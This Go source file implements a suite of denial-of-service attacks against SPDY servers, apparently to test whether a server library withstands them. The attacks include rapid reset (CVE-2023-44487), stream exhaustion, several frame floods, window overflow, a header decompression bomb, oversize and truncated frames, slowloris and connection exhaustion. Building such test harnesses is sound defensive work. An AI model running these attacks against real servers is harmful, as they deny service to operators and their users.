package attack

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"strings"
	"sync"
	"time"

	"github.com/spdygo/spdy/framing"
	"github.com/spdygo/spdy/hpackz"
)

// Options size the attacks.
type Options struct {
	// Scale multiplies the counts that can shrink (connections, streams
	// beyond the limit, frame caps of floods; each has a floor). 0 means
	// 1, the full size.
	Scale float64
	// Conns is the number of connections of idle-connections; 0 means
	// 1000 times Scale.
	Conns int
	// Hold is how long idle-connections keeps its connections open before
	// it checks them; 0 means 5 s. The connections the server closes end
	// the wait early once all are closed.
	Hold time.Duration
	// Wait is how long slowloris waits for the server to close its
	// connections; 0 means 3 minutes (a server that pings after 60 s of
	// silence and waits 30 s for the answer needs 90 s).
	Wait time.Duration
	// Unpaced makes floods write as fast as the socket takes their
	// frames, without waiting for the server between batches (see
	// flood). A server that closes its socket with bytes of the peer
	// still unread may then lose its GOAWAY in the kernel.
	Unpaced bool
}

func (o *Options) paced() bool { return o == nil || !o.Unpaced }

func (o *Options) scale() float64 {
	if o == nil || o.Scale <= 0 {
		return 1
	}
	return o.Scale
}

// scaled returns full times the scale, at least floor.
func (o *Options) scaled(full, floor int) int {
	return max(int(float64(full)*o.scale()), floor)
}

// floodCap is how many frames a flood sends at most. Its floor stays far
// above any sensible budget of costly frames (the session's is 1000 at
// once plus 100 a second), so that a server without a budget is seen to
// have none.
func (o *Options) floodCap() int { return o.scaled(100000, 20000) }

func (o *Options) hold() time.Duration {
	if o == nil || o.Hold <= 0 {
		return 5 * time.Second
	}
	return o.Hold
}

func (o *Options) wait() time.Duration {
	if o == nil || o.Wait <= 0 {
		return 3 * time.Minute
	}
	return o.Wait
}

// The sizes of the header-block attacks.
const (
	// bombSize is the inflated size of the decompression bomb's block:
	// half as much again as the 256 KiB limit (hpackz.DefaultMaxBlockSize).
	bombSize = 384 << 10
	// manyFieldsCount is the number of fields of the header-count block:
	// 3-byte names with empty values take 11 bytes each, 220 KB in all,
	// under the 256 KiB limit; compressed it is about 40 KB, under the
	// 64 KiB frame limit.
	manyFieldsCount = 20000
	// oversizeBlock is the size of the block of the oversize control
	// frame: above the 64 KiB limit (framing.DefaultMaxControlFrameSize).
	oversizeBlock = 68 << 10
	// streamsPerSession is the number of requests of each of the
	// many-sessions attack's sessions.
	streamsPerSession = 4
)

// flood writes frames made by next, flushing every batch, until max were
// made, a write fails, the server ends the session or ctx ends. It
// returns the number made.
//
// After each batch it sends a PING and waits for the answer (or the end of
// the session) before the next: the flood goes as fast as the server takes
// it, and when the server gives up, what it has not read yet is at most one
// batch, already in its read buffer. A server that closes its socket with
// bytes of the peer still unread in the kernel makes the kernel answer
// with a reset and drop what it had not sent yet, the GOAWAY included, and
// the outcome could not be told.
func flood(ctx context.Context, p *peer, o *Options, max, batch int, next func(i int) error) int {
	n := 0
	for n < max {
		if err := next(n); err != nil {
			break
		}
		n++
		if n%batch != 0 {
			continue
		}
		if !o.paced() {
			if p.flush() != nil || p.ended() || ctx.Err() != nil {
				break
			}
			continue
		}
		id, err := p.ping()
		if err != nil || p.flush() != nil || ctx.Err() != nil {
			break
		}
		if !p.waitFor(ctx, settleTimeout, func(o *obs) bool { return o.acked[id] || o.goAway }) || p.ended() {
			break
		}
	}
	p.flush()
	return n
}

// floodConfig is the usual peer of a flood: it reads and answers PINGs,
// grants a large session window, and announces initialWindow as its stream
// window (none when negative).
func floodConfig(initialWindow int64) peerConfig {
	return peerConfig{initialWindow: initialWindow, sessionWindow: bigSessionWindow, answerPings: true}
}

// runPeer dials one peer configured by cfg and runs body with it. Unless
// the dial or body fails (its error goes to r.Err), it then waits for the
// server's verdict on what body sent. Once dialed, the peer is finished:
// checked for a session still up, closed and added to r.
func runPeer(ctx context.Context, t *Target, r *Result, cfg peerConfig, body func(p *peer) error) {
	p, err := dialPeer(ctx, t, cfg)
	if err != nil {
		r.Err = err
		return
	}
	defer p.finish(ctx, r)
	if err := body(p); err != nil {
		r.Err = err
		return
	}
	p.settle(ctx)
}

// rapidReset opens streams with a valid GET and resets them at once with
// CANCEL, in a loop (CVE-2023-44487).
func rapidReset(ctx context.Context, t *Target, o *Options, r *Result) {
	runPeer(ctx, t, r, floodConfig(-1), func(p *peer) error {
		req := t.request(t.small())
		n := flood(ctx, p, o, o.floodCap(), 32, func(int) error {
			id := p.newStream()
			if err := p.synStream(id, true, req); err != nil {
				return err
			}
			return p.write(func(fr *framing.Framer) error { return fr.WriteRstStream(id, framing.StatusCancel) })
		})
		r.Note = fmt.Sprintf("%d streams opened and reset", n)
		return nil
	})
}

// streamExhaustion opens streams beyond the server's
// MAX_CONCURRENT_STREAMS without ever resetting them. The requests are for
// the large resource with a stream window of 0, so that none of them can
// finish. It waits for an answer to every stream rather than for a PING.
func streamExhaustion(ctx context.Context, t *Target, o *Options, r *Result) {
	p, err := dialPeer(ctx, t, floodConfig(0))
	if err != nil {
		r.Err = err
		return
	}
	defer p.finish(ctx, r)
	if err := p.waitSettings(ctx); err != nil {
		r.Err = err
		return
	}
	limit, ok := p.settingOr(framing.SettingMaxConcurrentStreams, 0)
	switch {
	case !ok:
		r.Err = errors.New("the server advertises no SETTINGS_MAX_CONCURRENT_STREAMS: there is no limit to exceed")
		return
	case limit > 100000:
		r.Err = fmt.Errorf("the server's MAX_CONCURRENT_STREAMS %d is too large to exceed", limit)
		return
	}
	extra := o.scaled(200, 10)
	total := int(limit) + extra
	req := t.request(t.large())
	n := flood(ctx, p, o, total, 32, func(int) error { return p.synStream(p.newStream(), true, req) })
	r.Beyond = n - int(limit)
	p.waitFor(ctx, 2*settleTimeout, func(o *obs) bool { return o.answered >= n })
	p.mu.Lock()
	answered := p.o.answered
	p.mu.Unlock()
	r.Note = fmt.Sprintf("limit %d, %d streams opened, %d answered", limit, n, answered)
}

// settingsFlood sends SETTINGS frames, one entry each, in a loop.
func settingsFlood(ctx context.Context, t *Target, o *Options, r *Result) {
	runPeer(ctx, t, r, floodConfig(-1), func(p *peer) error {
		n := flood(ctx, p, o, o.floodCap(), 256, func(i int) error {
			return p.write(func(fr *framing.Framer) error {
				return fr.WriteSettings(0, framing.Setting{ID: framing.SettingRoundTripTime, Value: uint32(i)})
			})
		})
		r.Note = fmt.Sprintf("%d SETTINGS frames", n)
		return nil
	})
}

// pingFlood sends PINGs without reading the socket at all, so that the
// replies pile up; only once it stops does it read what came back.
func pingFlood(ctx context.Context, t *Target, o *Options, r *Result) {
	cfg := floodConfig(-1)
	cfg.noReader = true
	runPeer(ctx, t, r, cfg, func(p *peer) error {
		max := o.floodCap()
		n := 0
		for n < max && ctx.Err() == nil {
			if _, err := p.ping(); err != nil {
				break
			}
			n++
			if n%256 == 0 {
				if p.flush() != nil {
					break
				}
				// A pause after each batch lets the server read it all
				// before the next: when it gives up, nothing of ours is
				// left unread in its socket (see flood).
				if o.paced() {
					time.Sleep(pingFloodPause)
				}
			}
		}
		p.flush()
		r.Note = fmt.Sprintf("%d PINGs sent unread", n)
		p.startReader()
		return nil
	})
}

// pingFloodPause is the pause between two batches of 256 PINGs: about 13
// thousand PINGs a second, over a hundred times the rate a session allows.
const pingFloodPause = 20 * time.Millisecond

// windowUpdateFlood sends WINDOW_UPDATE frames with a delta of 1, for an
// open stream (each lets the server send one more byte) and for the
// session, in turn.
func windowUpdateFlood(ctx context.Context, t *Target, o *Options, r *Result) {
	runPeer(ctx, t, r, floodConfig(0), func(p *peer) error {
		id := p.newStream()
		p.synStream(id, true, t.request(t.large()))
		n := flood(ctx, p, o, o.floodCap(), 256, func(i int) error {
			sid := id
			if i%2 == 1 {
				sid = 0
			}
			return p.write(func(fr *framing.Framer) error { return fr.WriteWindowUpdate(sid, 1) })
		})
		r.Note = fmt.Sprintf("%d WINDOW_UPDATE frames of delta 1", n)
		return nil
	})
}

// windowOverflow grows a stream's send window past 2^31-1 (a stream
// error), then the session's (a session error).
func windowOverflow(ctx context.Context, t *Target, o *Options, r *Result) {
	runPeer(ctx, t, r, floodConfig(1024), func(p *peer) error {
		const maxDelta = 1<<31 - 1
		id := p.newStream()
		p.synStream(id, true, t.request(t.large()))
		// Two updates in a row: the first alone could bring the window to
		// exactly 2^31-1, which is allowed.
		for range 2 {
			p.write(func(fr *framing.Framer) error { return fr.WriteWindowUpdate(id, maxDelta) })
		}
		p.flush()
		p.waitFor(ctx, settleTimeout, func(o *obs) bool { _, ok := o.resetOf[id]; return ok })
		st, ok := p.statusOf(id)
		r.Note = "stream window overflow: no reset"
		if ok {
			r.Note = "stream window overflow: RST " + st.String()
		}
		for range 2 {
			p.write(func(fr *framing.Framer) error { return fr.WriteWindowUpdate(0, maxDelta) })
		}
		p.flush()
		return nil
	})
}

// emptyDataFlood sends DATA frames without payload or FIN on an open
// stream.
func emptyDataFlood(ctx context.Context, t *Target, o *Options, r *Result) {
	runPeer(ctx, t, r, floodConfig(0), func(p *peer) error {
		id := p.newStream()
		p.synStream(id, false, t.request(t.large()))
		n := flood(ctx, p, o, o.floodCap(), 512, func(int) error {
			return p.write(func(fr *framing.Framer) error { return fr.WriteData(id, false, nil) })
		})
		r.Note = fmt.Sprintf("%d empty DATA frames", n)
		return nil
	})
}

// emptyHeadersFlood sends HEADERS frames whose block has no field, without
// FIN, on an open stream.
func emptyHeadersFlood(ctx context.Context, t *Target, o *Options, r *Result) {
	runPeer(ctx, t, r, floodConfig(0), func(p *peer) error {
		id := p.newStream()
		p.synStream(id, false, t.request(t.large()))
		n := flood(ctx, p, o, o.floodCap(), 256, func(int) error { return p.headers(id, false, nil) })
		r.Note = fmt.Sprintf("%d empty HEADERS frames", n)
		return nil
	})
}

// zeroWindowDribble asks for the large resource with a small stream
// window (64 bytes) and takes it one byte at a time: a WINDOW_UPDATE of
// delta 1 for each byte read, so that the server sends one-byte frames.
func zeroWindowDribble(ctx context.Context, t *Target, o *Options, r *Result) {
	runPeer(ctx, t, r, floodConfig(dribbleWindow), func(p *peer) error {
		id := p.newStream()
		p.synStream(id, true, t.request(t.large()))
		p.flush()
		max := o.scaled(100000, 20000)
		got := 0
		for got < max && ctx.Err() == nil {
			var n int
			var stop bool
			ok := p.waitFor(ctx, settleTimeout, func(o *obs) bool {
				n = o.data[id]
				_, reset := o.resetOf[id]
				stop = reset || o.goAway
				return n > got || stop
			})
			if !ok || stop || n == got {
				break
			}
			for ; got < n; got++ {
				p.write(func(fr *framing.Framer) error { return fr.WriteWindowUpdate(id, 1) })
			}
			if p.flush() != nil {
				break
			}
		}
		r.Note = fmt.Sprintf("%d bytes taken one at a time", got)
		return nil
	})
}

// dribbleWindow is the stream window of the zero-window dribble: small,
// but large enough that a delta of 1 is a sliver of it.
const dribbleWindow = 64

// headerBomb sends requests whose header block inflates from about 440
// bytes to 384 KiB, above the 256 KiB limit, in a loop.
func headerBomb(ctx context.Context, t *Target, o *Options, r *Result) {
	block, err := selfContained(t.request(t.small(), hpackz.Field{Name: "x-bomb", Value: strings.Repeat("a", bombSize)}))
	if err != nil {
		r.Err = err
		return
	}
	n := blockFlood(ctx, t, o, r, block, o.scaled(10000, 2000), 4)
	r.Note = fmt.Sprintf("%d blocks of %d bytes inflating to %d", n, len(block), bombSize)
}

// blockFlood sends up to max requests whose header block is block (made
// by selfContained), checking the server's answer every batch, and adds
// what the peer saw to r. It returns the number sent.
func blockFlood(ctx context.Context, t *Target, o *Options, r *Result, block []byte, max, batch int) int {
	cfg := floodConfig(-1)
	cfg.autoWindow, cfg.enc = true, encRaw
	n := 0
	runPeer(ctx, t, r, cfg, func(p *peer) error {
		first := append(zlibHeader(), block...)
		n = flood(ctx, p, o, max, batch, func(i int) error {
			if i == 0 {
				return p.synStreamBlock(p.newStream(), true, first)
			}
			return p.synStreamBlock(p.newStream(), true, block)
		})
		return nil
	})
	return n
}

// manyFields returns n fields with distinct 3-byte names and empty
// values.
func manyFields(n int) []hpackz.Field {
	const alnum = "abcdefghijklmnopqrstuvwxyz0123456789"
	f := make([]hpackz.Field, n)
	for i := range f {
		f[i].Name = string([]byte{alnum[i/(36*36)%36], alnum[i/36%36], alnum[i%36]})
	}
	return f
}

// headerCount sends requests whose header block holds 20000 tiny fields,
// under the size limit, in a loop, reading the answers.
func headerCount(ctx context.Context, t *Target, o *Options, r *Result) {
	req := t.request(t.small(), manyFields(manyFieldsCount)...)
	block, err := selfContained(req)
	if err != nil {
		r.Err = err
		return
	}
	n := blockFlood(ctx, t, o, r, block, o.scaled(2000, 300), 1)
	r.Note = fmt.Sprintf("%d blocks of %d fields (%d bytes compressed)", n, len(req), len(block))
}

// oversizeControl sends a SYN_STREAM larger than the 64 KiB control frame
// limit.
func oversizeControl(ctx context.Context, t *Target, o *Options, r *Result) {
	runPeer(ctx, t, r, floodConfig(-1), func(p *peer) error {
		block := make([]byte, oversizeBlock)
		rng := rand.NewChaCha8([32]byte{})
		rng.Read(block)
		id := p.newStream()
		p.write(func(fr *framing.Framer) error { return fr.WriteSynStream(id, 0, 0, framing.FlagFin, block) })
		p.flush()
		r.Note = fmt.Sprintf("SYN_STREAM with a %d-byte block", len(block))
		return nil
	})
}

// oversizeData sends a DATA frame larger than the stream window the server
// advertised.
func oversizeData(ctx context.Context, t *Target, o *Options, r *Result) {
	runPeer(ctx, t, r, floodConfig(0), func(p *peer) error {
		if err := p.waitSettings(ctx); err != nil {
			return err
		}
		win, _ := p.settingOr(framing.SettingInitialWindowSize, 64<<10)
		size := int(max(win, 64<<10)) + 1
		if size > framing.MaxPayloadLen {
			return fmt.Errorf("the server's stream window %d is too large to exceed in one frame", win)
		}
		id := p.newStream()
		p.synStream(id, false, t.request(t.large()))
		p.write(func(fr *framing.Framer) error { return fr.WriteData(id, false, make([]byte, size)) })
		p.flush()
		r.Note = fmt.Sprintf("DATA of %d bytes on a stream window of %d", size, win)
		return nil
	})
}

// truncatedFrame sends the start of a frame, then ends its side of the
// connection, and waits for the server to close it.
func truncatedFrame(ctx context.Context, t *Target, o *Options, r *Result) {
	p, err := dialPeer(ctx, t, floodConfig(-1))
	if err != nil {
		r.Err = err
		return
	}
	p.writeRaw(partialSynStream(1000, 100))
	p.countFrame()
	p.flush()
	if cw, ok := p.conn.(interface{ CloseWrite() error }); ok {
		if err := cw.CloseWrite(); err != nil {
			r.Err = fmt.Errorf("close write: %w", err)
		}
	}
	p.waitFor(ctx, settleTimeout, func(*obs) bool { return false })
	r.Note = "SYN_STREAM header announcing 1000 bytes, 100 sent, then our side shut"
	p.finish(ctx, r)
}

// partialSynStream returns the header of a SYN_STREAM announcing length
// payload bytes, followed by the first sent of them.
func partialSynStream(length, sent int) []byte {
	b := []byte{0x80, 0x03, 0x00, 0x01, 0x00, byte(length >> 16), byte(length >> 8), byte(length)}
	return append(b, make([]byte, sent)...)
}

// connResults gathers the results of the connections of a many-connection
// attack.
type connResults struct {
	mu     sync.Mutex
	r      *Result
	failed int
}

func (c *connResults) fail(err error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.failed++
	if c.r.Err == nil {
		c.r.Err = err
	}
}

func (c *connResults) add(p *peer) {
	c.mu.Lock()
	defer c.mu.Unlock()
	p.addTo(c.r)
}

// finishAll checks which of peers are still up, closes them and adds them
// to the result.
func (c *connResults) finishAll(ctx context.Context, peers []*peer) {
	parallel(len(peers), dialWidth, func(i int) {
		p := peers[i]
		if p == nil {
			return
		}
		alive := p.alive(ctx)
		p.close()
		c.mu.Lock()
		defer c.mu.Unlock()
		if alive {
			c.r.Alive++
		}
		p.addTo(c.r)
	})
}

// parallel runs fn for 0..n-1, at most width at a time, and returns when
// all have returned.
func parallel(n, width int, fn func(i int)) {
	sem := make(chan struct{}, width)
	var wg sync.WaitGroup
	for i := range n {
		sem <- struct{}{}
		wg.Add(1)
		go func() {
			defer func() {
				<-sem
				wg.Done()
			}()
			fn(i)
		}()
	}
	wg.Wait()
}

// dialWidth is how many connections a many-connection attack dials at
// once.
const dialWidth = 50

// dialAll dials n peers configured by cfg, dialWidth at a time, and runs
// prepare (when not nil) on each. A failed dial is counted in c and
// leaves its peer nil.
func (c *connResults) dialAll(ctx context.Context, t *Target, n int, cfg peerConfig, prepare func(p *peer)) []*peer {
	peers := make([]*peer, n)
	parallel(n, dialWidth, func(i int) {
		p, err := dialPeer(ctx, t, cfg)
		if err != nil {
			c.fail(err)
			return
		}
		if prepare != nil {
			prepare(p)
		}
		peers[i] = p
	})
	return peers
}

// noteFailed adds the number of failed dials, if any, to the note.
func (c *connResults) noteFailed() {
	if c.failed > 0 {
		c.r.Note += fmt.Sprintf(", %d dials failed", c.failed)
	}
}

// slowloris opens connections that send the start of a frame and then
// wait, never finishing it (so never able to answer the server's PING).
func slowloris(ctx context.Context, t *Target, o *Options, r *Result) {
	n := o.scaled(500, 10)
	wait := o.wait()
	c := &connResults{r: r}
	start := time.Now()
	cfg := peerConfig{initialWindow: -1, sessionWindow: bigSessionWindow, small: true}
	peers := c.dialAll(ctx, t, n, cfg, func(p *peer) {
		p.writeRaw(partialSynStream(300, 10))
		p.countFrame()
		p.flush()
	})
	deadline := wait - time.Since(start)
	parallel(n, n, func(i int) {
		if p := peers[i]; p != nil {
			p.waitFor(ctx, deadline, func(*obs) bool { return false })
			p.close()
			c.add(p)
		}
	})
	r.Note = fmt.Sprintf("%d connections stuck in a frame, waited up to %v", n, wait)
	c.noteFailed()
}

// idleConnections opens connections that send their SETTINGS and then
// nothing, answering the server's PINGs as a well-behaved idle client
// does.
func idleConnections(ctx context.Context, t *Target, o *Options, r *Result) {
	n := o.Conns
	if n <= 0 {
		n = o.scaled(1000, 10)
	}
	c := &connResults{r: r}
	cfg := peerConfig{initialWindow: -1, sessionWindow: bigSessionWindow, answerPings: true, small: true}
	peers := c.dialAll(ctx, t, n, cfg, nil)
	hold := o.hold()
	parallel(n, n, func(i int) {
		if p := peers[i]; p != nil {
			p.waitFor(ctx, hold, func(*obs) bool { return false })
		}
	})
	c.finishAll(ctx, peers)
	r.Note = fmt.Sprintf("%d connections held %v", n, hold)
	c.noteFailed()
}

// manySessions opens many sessions at once, each with a few requests for
// the small resource, and keeps them all open until every answer arrived.
func manySessions(ctx context.Context, t *Target, o *Options, r *Result) {
	n := o.scaled(500, 10)
	c := &connResults{r: r}
	req := t.request(t.small())
	cfg := peerConfig{initialWindow: -1, sessionWindow: bigSessionWindow, answerPings: true, autoWindow: true, small: true}
	peers := c.dialAll(ctx, t, n, cfg, func(p *peer) {
		for range streamsPerSession {
			p.synStream(p.newStream(), true, req)
		}
		p.flush()
	})
	parallel(n, n, func(i int) {
		if p := peers[i]; p != nil {
			p.waitFor(ctx, 2*settleTimeout, func(o *obs) bool { return o.complete >= streamsPerSession || o.goAway })
		}
	})
	c.finishAll(ctx, peers)
	r.Note = fmt.Sprintf("%d sessions of %d requests", n, streamsPerSession)
	c.noteFailed()
}
